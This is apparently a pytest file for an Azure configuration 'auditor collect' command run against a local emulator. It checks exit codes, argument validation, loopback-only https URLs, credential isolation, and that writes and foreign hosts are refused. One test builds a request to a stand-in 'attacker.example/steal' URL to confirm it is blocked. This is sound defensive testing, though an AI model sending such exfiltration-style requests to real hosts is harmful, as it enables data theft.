"""`auditor collect` on the command line: exit codes, refusals, and the security guards."""

from __future__ import annotations

import asyncio
import json
import subprocess
import sys
from contextlib import AsyncExitStack
from pathlib import Path

import pytest
from azure.core.rest import HttpRequest
from collect_support import ROOT, request_log, tenant

from auditor.collect import CollectOptions
from auditor.collect.clients import open_clients
from auditor.collect.pipeline import Gate, Stats, WriteRefused
from auditor.collect.reader import Reader
from auditor.emulator.runner import running_emulator


def _run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "auditor", "collect", *args], capture_output=True, text=True,
                          cwd=ROOT, timeout=120, env=env)


@pytest.fixture(scope="module")
def emulated(tmp_path_factory: pytest.TempPathFactory):  # type: ignore[no-untyped-def]
    log = tmp_path_factory.mktemp("cli") / "requests.jsonl"
    with running_emulator(tenant(12), request_log=str(log)) as emu:
        yield emu, log


def test_incomplete_collection_exits_3_and_writes_the_snapshot(emulated, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    emu, _ = emulated
    out = tmp_path / "snap.json"
    proc = _run("--emulator", emu.endpoint, "--ca-cert", emu.ca_cert, "-o", str(out))
    assert proc.returncode == 3, proc.stderr
    snap = json.loads(out.read_text())
    assert snap["schemaVersion"] == 1 and snap["errors"]
    # Not a terminal: no progress display, just the one-line summary.
    assert proc.stdout == ""
    assert proc.stderr.count("\n") == 1 and "calls" in proc.stderr and "retries" in proc.stderr


def test_complete_collection_exits_0(tmp_path: Path) -> None:
    with running_emulator(tenant(6, errors=False)) as emu:
        out = tmp_path / "snap.json.gz"
        proc = _run("--emulator", emu.endpoint, "--ca-cert", emu.ca_cert, "-o", str(out), "--concurrency", "4")
    assert proc.returncode == 0, proc.stderr
    assert out.read_bytes()[:2] == b"\x1f\x8b"


@pytest.mark.parametrize("args, message", [
    (["--cloud", "AzureUSGovernment"], "cannot be combined with --cloud"),
    (["--cloud", "AzureChinaCloud"], "cannot be combined with --cloud"),
])
def test_emulator_refuses_real_cloud_options(emulated, tmp_path: Path, args: list[str],  # type: ignore[no-untyped-def]
                                             message: str) -> None:
    emu, log = emulated
    before = len(request_log(log))
    proc = _run("--emulator", emu.endpoint, "--ca-cert", emu.ca_cert, *args, "-o", str(tmp_path / "x.json"))
    assert proc.returncode == 2 and message in proc.stderr and "Traceback" not in proc.stderr
    assert len(request_log(log)) == before  # refused before any request
    assert not (tmp_path / "x.json").exists()


@pytest.mark.parametrize("url, message", [
    ("http://127.0.0.1:8443", "must use https"),
    ("https://10.1.2.3:8443", "loopback"),
    ("https://management.azure.com", "loopback"),
    ("https://user:pw@127.0.0.1:8443", "credentials"),
])
def test_emulator_url_must_be_https_on_loopback(emulated, tmp_path: Path, url: str,  # type: ignore[no-untyped-def]
                                                message: str) -> None:
    emu, _ = emulated
    proc = _run("--emulator", url, "--ca-cert", emu.ca_cert, "-o", str(tmp_path / "x.json"))
    assert proc.returncode == 2 and message in proc.stderr


def test_usage_errors_exit_2(emulated, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    emu, _ = emulated
    out = str(tmp_path / "x.json")
    assert "needs --ca-cert" in _run("--emulator", emu.endpoint, "-o", out).stderr
    assert _run("--ca-cert", emu.ca_cert, "-o", out).returncode == 2
    not_pem = tmp_path / "ca.pem"
    not_pem.write_text("hello")
    assert "not a PEM" in _run("--emulator", emu.endpoint, "--ca-cert", str(not_pem), "-o", out).stderr
    assert _run("--emulator", emu.endpoint, "--ca-cert", emu.ca_cert, "--concurrency", "0", "-o", out).returncode == 2
    assert _run("--cloud", "Mars", "-o", out).returncode == 2
    assert _run("--emulator", emu.endpoint, "--ca-cert", emu.ca_cert, "--management-group", "a/b",
                "-o", out).returncode == 2


def test_emulator_mode_never_loads_a_real_credential(emulated, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    emu, _ = emulated
    code = (
        "import sys\n"
        "from auditor.collect import CollectOptions, run_collection\n"
        f"run_collection(CollectOptions(emulator={emu.endpoint!r}, ca_cert={emu.ca_cert!r}, summary=False))\n"
        "print(sorted(m for m in sys.modules if m.startswith('azure.identity')))\n"
    )
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT, timeout=120,
                          env={"PATH": "/usr/bin:/bin", "AZURE_CLIENT_SECRET": "s3cret", "AZURE_TENANT_ID": "t",
                               "AZURE_CLIENT_ID": "c"})
    assert proc.returncode == 0, proc.stderr
    assert proc.stdout.strip() == "[]"


def test_writes_and_foreign_hosts_are_refused_before_sending(emulated) -> None:  # type: ignore[no-untyped-def]
    emu, log = emulated
    before = len(request_log(log))

    async def attempt() -> list[str]:
        refused = []
        options = CollectOptions(emulator=emu.endpoint, ca_cert=emu.ca_cert)
        stats = Stats()
        async with AsyncExitStack() as stack:
            clients = await open_clients(options, stats, Gate(), stack)
            reader = Reader(options.endpoint, 4, stats)
            for request in (
                HttpRequest("PUT", "/subscriptions/x/providers/Microsoft.Insights/diagnosticSettings/a?api-version=1"),
                HttpRequest("DELETE", "/providers/Microsoft.Management/managementGroups/x?api-version=2023-04-01"),
                HttpRequest("POST", "/subscriptions/x/providers/Microsoft.Insights/register?api-version=1"),
                HttpRequest("GET", "https://attacker.example/steal?api-version=1"),
                HttpRequest("GET", emu.endpoint.replace("https://", "http://") + "/subscriptions?api-version=1"),
            ):
                try:
                    await reader.send(clients.monitor, request, "test")
                except WriteRefused as e:
                    refused.append(str(e))
        return refused

    refused = asyncio.run(attempt())
    assert len(refused) == 5
    assert len(request_log(log)) == before


def test_progress_display_and_summary(emulated, capsys: pytest.CaptureFixture[str]) -> None:  # type: ignore[no-untyped-def]
    from auditor.collect import run_collection

    emu, _ = emulated
    result = run_collection(CollectOptions(emulator=emu.endpoint, ca_cert=emu.ca_cert, progress=True))
    err = capsys.readouterr().err
    assert result.summary() in err
    assert f"{result.calls} calls" in err and f"{len(result.errors)} errors" in err
